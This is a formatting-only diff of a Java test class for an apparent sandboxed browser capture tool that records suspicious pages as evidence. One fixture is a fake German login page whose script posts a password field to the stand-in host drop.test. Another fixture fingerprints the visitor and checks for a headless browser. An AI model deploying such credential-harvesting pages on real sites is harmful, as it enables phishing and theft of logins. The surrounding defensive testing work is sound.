@@ -79,20 +79,26 @@ class BrowserCapturerTest {
                         .toList());
         assertEquals(Optional.of("a=b"), capture.last().answer().orElseThrow().header("set-cookie"));
         assertEquals("127.44.9.1", capture.last().address().orElseThrow().text());
-        assertEquals(List.of("evil.test"), capture.last().tls().orElseThrow().leaf().names());
-        assertEquals(List.of(Flaw.UNTRUSTED_ISSUER), capture.last().tls().orElseThrow().flaws());
+        assertEquals(
+                List.of("evil.test"), capture.last().tls().orElseThrow().leaf().names());
+        assertEquals(
+                List.of(Flaw.UNTRUSTED_ISSUER),
+                capture.last().tls().orElseThrow().flaws());
         assertEquals(Instrument.BROWSER, capture.method().instrument());
         JsonNode har = new ObjectMapper()
-                .readTree(world.evidence.get(
-                        capture.traffic().har().orElseThrow().sha256()));
+                .readTree(
+                        world.evidence.get(capture.traffic().har().orElseThrow().sha256()));
         assertTrue(har.path("log").path("entries").size() >= 5, har.toString());
     }
 
     @Test
     void keepsTheOctetsOfTheDocumentAndThePageAsShown() {
-        world.site.put("/l1", "", "<html lang=de><title>x</title><link rel=icon href=/i.png><body><script>"
-                + "document.title='Anmeldung';document.body.innerHTML='<form action=//drop.test/in method=post>"
-                + "<input type=password name=p></form>'</script>");
+        world.site.put(
+                "/l1",
+                "",
+                "<html lang=de><title>x</title><link rel=icon href=/i.png><body><script>"
+                        + "document.title='Anmeldung';document.body.innerHTML='<form action=//drop.test/in method=post>"
+                        + "<input type=password name=p></form>'</script>");
         world.site.put("/i.png", "", "an icon");
 
         PageSeen page = capture("/l1").page().orElseThrow();
@@ -118,9 +124,12 @@ class BrowserCapturerTest {
 
     @Test
     void aPhoneIsAPhone() {
-        world.site.put("/m", "", "<meta name=viewport content='width=device-width'><script>document.title=[innerWidth,"
-                + "navigator.maxTouchPoints,matchMedia('(pointer:coarse)').matches,navigator.language,"
-                + "Intl.DateTimeFormat().resolvedOptions().timeZone,/Headless/.test(navigator.userAgent)].join()</script>");
+        world.site.put(
+                "/m",
+                "",
+                "<meta name=viewport content='width=device-width'><script>document.title=[innerWidth,"
+                        + "navigator.maxTouchPoints,matchMedia('(pointer:coarse)').matches,navigator.language,"
+                        + "Intl.DateTimeFormat().resolvedOptions().timeZone,/Headless/.test(navigator.userAgent)].join()</script>");
 
         Capture capture = capture(new CaptureRequest(
                 URI.create("http://evil.test/m"), new Visitor(Visitor.OWN_NETWORK, Visitor.Profile.MOBILE)));
@@ -170,6 +179,7 @@ class BrowserCapturerTest {
 
     @Test
     void theSandboxIsNeverSwitchedOff() {
-        assertTrue(Flags.all().stream().noneMatch(flag -> flag.contains("no-sandbox") || flag.contains("disable-seccomp")));
+        assertTrue(Flags.all().stream()
+                .noneMatch(flag -> flag.contains("no-sandbox") || flag.contains("disable-seccomp")));
     }
 }
